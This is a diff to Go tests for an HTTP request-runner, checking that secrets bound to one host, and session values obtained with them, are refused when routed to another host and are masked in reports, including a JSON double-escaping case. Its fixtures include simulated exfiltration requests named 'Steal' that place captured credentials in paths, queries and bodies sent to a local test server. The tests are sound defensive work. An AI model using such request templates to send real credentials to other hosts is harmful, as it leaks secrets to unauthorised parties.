@@ -2,6 +2,8 @@ package run
 
 import (
 	"context"
+	"encoding/json"
+	"io"
 	"net/http"
 	"net/url"
 	"strings"
@@ -51,6 +53,7 @@ profile = "k"
 [request.capture]
 plain = '.headers."X-Api-Key"'
 low = '.headers."X-Api-Key" | ascii_downcase'
+piece = '.headers."X-Api-Key"[6:11]'
 
 [[request]]
 name = "Steal in a header"
@@ -64,19 +67,21 @@ query = { d = "{{low}}" }
 
 [[request]]
 name = "Same host"
-url = "{{base_url}}/p/{{low}}"
+url = "{{base_url}}/p/{{low}}/{{piece}}"
 `, opts)
 	if n := stolen.Load(); n != 0 {
 		t.Fatalf("the other host received %d requests carrying a capture of the bound key", n)
 	}
 	for _, name := range []string{"Steal in a header", "Steal in the query"} {
 		line := lineOf(live, name)
-		if !strings.Contains(line, "was captured from a response that held {{secret:key}}") || !strings.Contains(line, "refusing to send it to") {
+		if !strings.Contains(line, "was captured from the answer to a request that sent {{secret:key}}") || !strings.Contains(line, "refusing to send it to") {
 			t.Errorf("%s: no refusal naming the capture and the secret:\n%s", name, line)
 		}
 	}
 	for name, out := range outputs {
-		for _, form := range []string{key, strings.ToLower(key)} {
+		// A piece of the key is masked too (hostile review of issue 14,
+		// F3: seven-byte slices spelled a credential out in the report).
+		for _, form := range []string{key, strings.ToLower(key), key[6:11]} {
 			if strings.Contains(out, form) {
 				t.Errorf("the %s output holds %q:\n%s", name, form, out)
 			}
@@ -97,9 +102,61 @@ func lineOf(live, name string) string {
 	return ""
 }
 
-// TestCaptureFromAResponseWithoutSecretsIsFree: a capture from a response
-// that holds no secret (an id from /me) goes anywhere, as before.
-func TestCaptureFromAResponseWithoutSecretsIsFree(t *testing.T) {
+// TestCaptureOfABoundRequestIsBoundButNotMasked: what a request that sent
+// a bound secret gets back — here a session id from a login that does not
+// echo the secret — was bought with the secret, and goes only where it
+// may (hostile review of issue 14, F2: it went to any host in a path or a
+// body); it is not masked, since the response holds no secret. A capture
+// from a request that sent nothing bound goes anywhere, as before.
+func TestCaptureOfABoundRequestIsBoundButNotMasked(t *testing.T) {
+	login := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		w.Write([]byte(`{"session":"sess-0042-abcdef"}`))
+	})
+	var got atomic.Int64
+	other := serve(t, func(w http.ResponseWriter, r *http.Request) { got.Add(1) })
+	loginURL, _ := url.Parse(login.URL)
+	opts := options(login.URL)
+	opts.Scope.Vars["other"] = other.URL
+	opts.Scope.Secrets = boundStore{value: "Bound-Key-Canary-42", host: loginURL.Host}
+	rep := mustRun(t, context.Background(), parse(t, `
+name = "Login"
+version = 1
+[[request]]
+name = "Login"
+method = "POST"
+url = "{{base_url}}/login"
+json = { user = "bob", password = "{{secret:key}}" }
+[request.capture]
+session = ".session"
+[[request]]
+name = "In the path"
+url = "{{other}}/steal/{{session}}"
+[[request]]
+name = "In a body"
+method = "POST"
+url = "{{other}}/steal"
+json = { s = "{{session}}" }
+[[request]]
+name = "Back home"
+url = "{{base_url}}/me/{{session}}"
+`), opts)
+	if n := got.Load(); n != 0 {
+		t.Fatalf("the other host received %d requests carrying the session bought with a bound secret", n)
+	}
+	for _, res := range rep.Results[1:3] {
+		if res.Passed || !strings.Contains(res.Error, "refusing to send it to") {
+			t.Errorf("%s: %+v; want a refusal", res.Name, res)
+		}
+	}
+	if res := rep.Results[3]; !res.Passed || !strings.Contains(res.URL, "sess-0042-abcdef") {
+		t.Errorf("the session sent back to its own host: %+v; want it sent, and shown", res)
+	}
+}
+
+// TestCaptureOfAFreeRequestIsFree: a capture from a request that sent no
+// bound value (an id from a public endpoint) goes anywhere, unmasked.
+func TestCaptureOfAFreeRequestIsFree(t *testing.T) {
 	echo := serve(t, func(w http.ResponseWriter, r *http.Request) {
 		w.Header().Set("Content-Type", "application/json")
 		w.Write([]byte(`{"id":"user-0042-abcdef"}`))
@@ -114,9 +171,8 @@ func TestCaptureFromAResponseWithoutSecretsIsFree(t *testing.T) {
 name = "Free"
 version = 1
 [[request]]
-name = "Me"
-url = "{{base_url}}/me"
-headers = { X-Api-Key = "{{secret:key}}" }
+name = "Public"
+url = "{{base_url}}/public"
 [request.capture]
 id = ".id"
 [[request]]
@@ -124,9 +180,55 @@ name = "Elsewhere"
 url = "{{other}}/users/{{id}}"
 `), opts)
 	if got.Load() != 1 || !rep.Results[1].Passed {
-		t.Fatalf("a capture from a response without secrets was held back: %+v", rep.Results[1])
+		t.Fatalf("a capture from a request without bound values was held back: %+v", rep.Results[1])
 	}
 	if !strings.Contains(rep.Results[1].URL, "user-0042-abcdef") {
 		t.Errorf("an id from a response without secrets was masked: %s", rep.Results[1].URL)
+	}
+}
+
+// TestSecretEchoedFromAJSONBodyIsFound: a bound secret holding a quote,
+// sent in a json body (where JSON escapes the quote) and echoed by a
+// server that returns the raw body as a JSON string (which escapes it
+// again), is still found in the response: masked, and what is captured
+// from it bound (hostile review of issue 14, F1).
+func TestSecretEchoedFromAJSONBodyIsFound(t *testing.T) {
+	const key = `S3cr3t/Pa+ss&<"x>`
+	echo := serve(t, func(w http.ResponseWriter, r *http.Request) {
+		body, _ := io.ReadAll(r.Body)
+		quoted, _ := json.Marshal(map[string]string{"body": string(body)})
+		w.Header().Set("Content-Type", "application/json")
+		w.Write(quoted)
+	})
+	var stolen atomic.Int64
+	other := serve(t, func(w http.ResponseWriter, r *http.Request) { stolen.Add(1) })
+	echoURL, _ := url.Parse(echo.URL)
+	opts := options(echo.URL)
+	opts.Scope.Vars["other"] = other.URL
+	opts.Scope.Secrets = boundStore{value: key, host: echoURL.Host}
+	opts.KeepExchange = 8 << 10 // as for an HTML report, which shows the echoed body
+	_, outputs := liveLines(t, `
+name = "Double"
+version = 1
+[[request]]
+name = "Echo"
+method = "POST"
+url = "{{base_url}}/echo"
+json = { pw = "{{secret:key}}" }
+[request.expect]
+jq = ['.body | length == 0']
+[request.capture]
+z = ".body | fromjson | .pw"
+[[request]]
+name = "Steal"
+url = "{{other}}/steal?z={{z}}"
+`, opts)
+	if n := stolen.Load(); n != 0 {
+		t.Fatalf("the other host received %d requests", n)
+	}
+	for name, out := range outputs {
+		if strings.Contains(out, "S3cr3t") {
+			t.Errorf("the %s output holds the secret:\n%s", name, out)
+		}
 	}
 }
